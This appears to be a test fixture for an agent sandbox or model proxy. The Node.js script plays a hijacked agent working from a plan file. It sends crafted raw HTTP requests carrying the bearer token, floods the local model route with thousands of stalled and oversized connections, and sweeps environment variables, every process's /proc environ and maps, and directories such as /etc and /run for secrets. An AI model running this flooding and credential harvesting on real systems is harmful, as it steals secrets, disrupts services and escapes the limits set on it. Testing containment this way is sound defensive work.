// An agent that was taken over: it speaks to its model route in bytes of its own choosing and writes down all answers.
import { readFileSync, writeFileSync, readdirSync, statSync } from 'node:fs';
import { connect } from 'node:net';

const PORT = Number(new URL(process.env.HALO_MODEL_URL).port);

/** Bytes to the model route; everything that comes back until it ends or falls silent. */
function send(bytes, quietMs = 1_500) {
  return new Promise((resolve) => {
    const socket = connect(PORT, '127.0.0.1');
    let text = '';
    const end = () => {
      socket.destroy();
      resolve(text);
    };
    socket.setTimeout(quietMs, end);
    socket.on('connect', () => socket.write(bytes));
    socket.on('data', (chunk) => (text += chunk.toString('latin1')));
    socket.on('close', end);
    socket.on('error', end);
  });
}

function post({ path, headers = [], body, token = process.env.HALO_MODEL_KEY }) {
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  const length = Buffer.byteLength(text);
  return [
    `POST ${path} HTTP/1.1`,
    'Host: x',
    'Connection: close',
    `Content-Length: ${length}`,
    `Authorization: Bearer ${token}`,
    ...headers,
    '',
    text,
  ].join('\r\n');
}

/** With the token: what is refused then is refused for another reason. */
function admitted(raw) {
  return raw.replace('Host: x\r\n', `Host: x\r\nAuthorization: Bearer ${process.env.HALO_MODEL_KEY}\r\n`);
}

/** Holds as many connections open as it gets, half of them in the middle of a request. */
async function flood() {
  const sockets = Array.from({ length: 2_000 }, (_, index) => {
    const socket = connect(PORT, '127.0.0.1');
    socket.on('error', () => {});
    if (index % 2 === 0)
      socket.write(admitted('POST /v1/responses HTTP/1.1\r\nHost: x\r\nContent-Length: 30000000\r\n\r\n'));
    if (index % 40 === 0) socket.write(Buffer.alloc(4 * 1024 * 1024, 'x'));
    return socket;
  });
  await send(`GET / HTTP/1.1\r\nHost: x\r\nX-Long: ${'x'.repeat(100_000)}\r\n\r\n`);
  await new Promise((resolve) => setTimeout(resolve, 3_000));
  return sockets.length;
}

/** Everything that any process or file here reveals. */
function look() {
  const seen = [JSON.stringify(process.env)];
  const read = (path) => {
    try {
      if (statSync(path).isFile() && statSync(path).size < 1e6) seen.push(readFileSync(path, 'latin1'));
    } catch {
      // Not for us.
    }
  };
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name)))
    for (const file of ['environ', 'cmdline', 'maps', 'status']) {
      try {
        seen.push(readFileSync(`/proc/${pid}/${file}`, 'latin1'));
      } catch {
        // Not for us.
      }
    }
  for (const dir of ['/run', '/run/halo', '/etc', '/tmp', process.env.HOME, '/halo']) {
    try {
      for (const name of readdirSync(dir, { recursive: true })) read(`${dir}/${name}`);
    } catch {
      // Not for us.
    }
  }
  return seen.join('\n');
}

function list(dir) {
  try {
    return readdirSync(dir).join('\n');
  } catch (error) {
    return error.code;
  }
}

const plan = JSON.parse(readFileSync('plan.json', 'utf8'));
const answers = [];
for (const step of plan) {
  if (step.look) answers.push(look());
  else if (step.list) answers.push(list(step.list));
  else if (step.flood) answers.push(String(await flood()));
  else answers.push(await send(step.raw === undefined ? post(step) : admitted(step.raw)));
}
writeFileSync('answers.json', JSON.stringify(answers));
console.log(JSON.stringify({ status: 'ok', summary: 'Took what there was.' }));
process.exit(0);
